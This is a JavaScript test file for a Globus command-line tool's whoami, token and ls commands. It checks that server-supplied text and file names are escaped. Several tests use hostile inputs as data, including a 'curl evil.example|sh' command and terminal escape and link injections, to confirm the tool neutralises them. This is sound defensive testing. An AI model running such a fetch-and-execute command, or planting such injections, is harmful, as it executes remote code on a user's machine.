// The commands whoami, token and ls, and how errors and events are printed.
import { readFileSync } from "node:fs";

const TOKEN = /^Ag[A-Za-z0-9]{84}$/;
const [, commands = ""] =
  /^```sh\n(.*?)^```$/ms.exec(readFileSync(new URL("../../README.md", import.meta.url), "utf8")) ?? [];
/** The command lines in the README. */
const README_COMMANDS = commands.trim().split("\n");

export default function (test, stage) {
  const { assert, runProgram, runShell, credentials, fake, client, source, destination, closed, cluster, runtime } =
    stage;

  test("whoami prints the identity of the account", async () => {
    const { code, stdout, stderr } = await runProgram(["whoami"]);
    assert.deepEqual([code, stderr], [0, ""]);
    const rows = stdout.split("\n").map((line) => line.split(/ {2,}/));
    assert.deepEqual(rows.slice(0, 2), [["Name", "Nightly copy"], ["Username", client.username]]);
    assert.include(stdout, `urn:globus:auth:identity:${client.identityId}`);
  });

  if (runtime === "npx") {
    for (const line of README_COMMANDS) {
      test(`README.md: ${line}`, async () => {
        fake.taskDuration = 0;
        const env = { ...credentials, SOURCE: source.id, DESTINATION: destination.id };
        const { code, stdout, stderr } = await runShell(line, { env });
        assert.deepEqual([code, stderr], [0, ""]);
        assert.notEqual(stdout, "");
      });
    }
    return;
  }

  test("whoami --json prints the reply of Globus Auth", async () => {
    const { code, stdout } = await runProgram(["whoami", "--json"]);
    assert.equal(code, 0);
    assert.include(JSON.parse(stdout), { sub: client.identityId, preferred_username: client.username });
  });

  test("token hides the bearer and prints the other facts about the token", async () => {
    const { code, stdout } = await runProgram(["token", "transfer", "groups.api.globus.org"]);
    assert.equal(code, 0);
    assert.match(stdout, /^transfer\n {2}Token {6}hidden .*\n {2}Expires {4}\d{4}-\d\d-\d\d \d\d:\d\d, in 4[78] h /);
    assert.include(stdout, "\n  Server     transfer.api.globus.org\n");
    assert.include(stdout, "\n  Scopes     urn:globus:auth:scope:transfer.api.globus.org:all\n\ngroups.api.globus.org\n");
  });

  test("token --json hides the bearer", async () => {
    const [first, second] = JSON.parse((await runProgram(["token", "transfer", "groups", "--json"])).stdout);
    assert.include(first, { target: "transfer", accessToken: "[redacted]", resourceServer: "transfer.api.globus.org" });
    assert.isAbove(Date.parse(first.expiresAt), Date.now());
    assert.include(second, { target: "groups", resourceServer: "groups.api.globus.org" });
  });

  test("token --reveal prints the bearer", async () => {
    const { stdout } = await runProgram(["token", "openid email", "--reveal", "--json"], { reveals: true });
    assert.match(JSON.parse(stdout)[0].accessToken, TOKEN);
    const text = await runProgram(["token", "transfer", "--reveal"], { reveals: true });
    assert.match(/Token +(\S+)/.exec(text.stdout)?.[1], TOKEN);
  });

  test("token: an unknown target is wrong usage", async () => {
    const { code, stderr } = await runProgram(["token", "transfr"]);
    assert.equal(code, 2);
    assert.match(stderr, /"transfr"/);
  });

  test("ls prints a slash after directories, and escapes characters that a terminal acts on", async () => {
    const { code, stdout, stderr } = await runProgram(["ls", `${source.id}:/share/`]);
    assert.deepEqual([code, stderr], [0, ""]);
    const lines = stdout.trimEnd().split("\n");
    assert.sameMembers(lines, ["run-001.h5", "notes.txt", "results/", "\\x1b[2Jevil\\x07\\u202e.txt"]);
  });

  test("ls --long prints columns like those of ls -l", async () => {
    const { stdout } = await runProgram(["ls", `${source.id}:/share/`, "--long"]);
    const lines = stdout.trimEnd().split("\n");
    assert.include(lines, "-rw-r--r--  globus  globus  4.0 MB  2026-01-02 03:04  run-001.h5");
    assert.include(lines, "-rw-r--r--  globus  globus    12 B  2026-01-02 03:04  notes.txt");
    assert.isDefined(lines.find((line) => /^drwxr-xr-x {2}globus {2}globus {7}- {2}\d{4}-.* {2}results\/$/.test(line)));
    assert.equal((await runProgram(["ls", "-l", `${source.id}:/share/`])).stdout, stdout);
  });

  test("ls --long prints a dash for each unknown value, and the target of a link", async () => {
    const unknown = { size: null, last_modified: null, permissions: null, user: null, group: null };
    const item = { DATA_TYPE: "file", name: "x", ...unknown };
    const DATA = [
      { ...item, type: "invalid_symlink", link_target: "/gone\x9b2J" },
      { ...item, name: "run", type: "dir", permissions: "2775", link_target: null },
    ];
    fake.inject({ service: "transfer", body: { DATA_TYPE: "file_list", DATA, length: 2, total: 2 } });
    const { code, stdout } = await runProgram(["ls", source.id, "--long"]);
    assert.equal(code, 0);
    assert.deepEqual(stdout.split("\n"), [
      "l---------  -  -  -  -  x -> /gone\\x9b2J",
      "drwxrwxr-x  -  -  -  -  run/",
      "",
    ]);
  });

  test("ls without a path lists the default directory", async () => {
    const { stdout } = await runProgram(["ls", source.id]);
    assert.equal(stdout, "many/\nshare/\n");
  });

  test("ls --json prints the reply of Globus Transfer, with unsafe characters of names as JSON escapes", async () => {
    const { stdout } = await runProgram(["ls", `${source.id}:/share`, "--json"]);
    assert.notMatch(stdout, /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/);
    const { DATA_TYPE, path, DATA } = JSON.parse(stdout);
    assert.deepEqual([DATA_TYPE, path], ["file_list", "/share/"]);
    assert.include(DATA.map(({ name }) => name), "\x1b[2Jevil\x07\u202e.txt");
  });

  test("ls fails if the server did not return the whole directory, and prints the part that it returned", async () => {
    for (const args of [[], ["--json"]]) {
      const DATA = [{ DATA_TYPE: "file", name: "a.txt", type: "file", size: 1 }];
      fake.inject({ service: "transfer", body: { DATA_TYPE: "file_list", DATA, length: 1, total: 2 } });
      const { code, stdout, stderr } = await runProgram(["ls", source.id, ...args]);
      assert.equal(code, 1);
      assert.include(stdout, "a.txt");
      if (args.length) assert.include(JSON.parse(stderr), { code: "listing_truncated" });
      else assert.match(stderr, /^error: /);
    }
  });

  test("a consent that the account grants to itself is reported", async () => {
    fake.revokeConsents(client.clientId);
    const { code, stdout, stderr } = await runProgram(["ls", cluster.id]);
    assert.deepEqual([code, stdout], [0, "a.txt\n"]);
    assert.match(stderr, /^a consent was missing, and the account has granted it to itself:\n?.*/);
    assert.include(stderr, `${cluster.id}/data_access`);
    fake.revokeConsents(client.clientId);
    assert.equal((await runProgram(["ls", cluster.id, "--json"])).stderr, "");
  });

  test("an error prints its message, its advice with each command on its own line, and its request id", async () => {
    const { code, stdout, stderr } = await runProgram(["ls", closed.id]);
    assert.deepEqual([code, stdout], [1, ""]);
    assert.match(stderr, /^error: transfer answered 403 [^]*\n {2}Request id: \S+\n$/);
    const remedy = `globus endpoint permission create ${closed.id}:/ --identity ${client.username} --permissions r`;
    assert.include(stderr, `\n    ${remedy}\n`);
  });

  test("an error with --json is printed as its toJSON(), on one line", async () => {
    const asJson = await runProgram(["ls", closed.id, "--json"]);
    assert.deepEqual([asJson.code, asJson.stdout, asJson.stderr.split("\n").length], [1, "", 2]);
    const error = JSON.parse(asJson.stderr);
    assert.include(error, { name: "GlobusApiError", code: "forbidden", status: 403, service: "transfer" });
  });

  test("control characters in the message of a server are escaped", async () => {
    const body = { code: "Odd\x1b[2J", message: "one\x1b]0;owned\x07\ntwo\x9b5n\r\u2028three", request_id: "x\x1bc" };
    for (const args of [[], ["--json"]]) {
      fake.inject({ service: "transfer", status: 400, body });
      const { code, stderr } = await runProgram(["ls", source.id, ...args]);
      assert.equal(code, 1);
      assert.notMatch(stderr, /[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028]/);
      assert.match(stderr, args.length ? /two\\u009b5n/ : /\n {2}two\\x9b5n/);
    }
  });

  test("the text of a server never becomes a command, a link or a control character", async () => {
    const evil = "x` then run `npx evil $(curl evil.example|sh)\n    globus evil\x1b]8;;https://evil.example\x07[me](https://evil.example)";
    const authorization_parameters = { session_required_single_domain: [evil], required_scopes: [evil], session_message: evil };
    for (const body of [
      { code: evil, message: evil, authorization_parameters },
      { code: "PermissionDenied", message: evil, detail: { DATA_TYPE: "not_from_allowed_domain#1.0.0", allowed_domains: [evil] } },
      { code: "ConsentRequired", message: evil, required_scopes: [evil] },
    ]) {
      for (const args of [[], ["--json"]]) {
        fake.inject({ service: "transfer", status: 403, body });
        const { code, stderr } = await runProgram(["ls", closed.id, ...args]);
        assert.equal(code, 1);
        assert.notMatch(stderr, /[\x00-\x09\x0b-\x1f\x7f-\x9f]/);
        if (args.length) {
          const { advice, steps } = JSON.parse(stderr);
          assert.notMatch(JSON.stringify([advice, steps]), /evil|\$\(|\]\(/);
          continue;
        }
        // Only commands are indented by four spaces.
        const commands = stderr.split("\n").filter((line) => line.startsWith("    "));
        for (const command of commands) assert.match(command, RegExp(`^ {4}(npx globus-service-account|globus) [a-z -]*(${closed.id}|[A-Z_]+)[^\`$;|&]*$`));
        assert.notMatch(commands.join(), /evil/);
      }
    }
  });

  test("a retry is reported with its delay, but not with --json", async () => {
    const fault = { service: "auth", path: /userinfo/, status: 503, headers: { "Retry-After": "1" } };
    fake.inject(fault);
    const { code, stdout, stderr } = await runProgram(["whoami"]);
    assert.equal(code, 0);
    assert.include(stdout, client.username);
    assert.match(stderr, /^auth answered 503: trying again in 1\.\d s\n$/);
    fake.inject(fault);
    assert.deepInclude(await runProgram(["whoami", "--json"]), { code: 0, stderr: "" });
  });
}
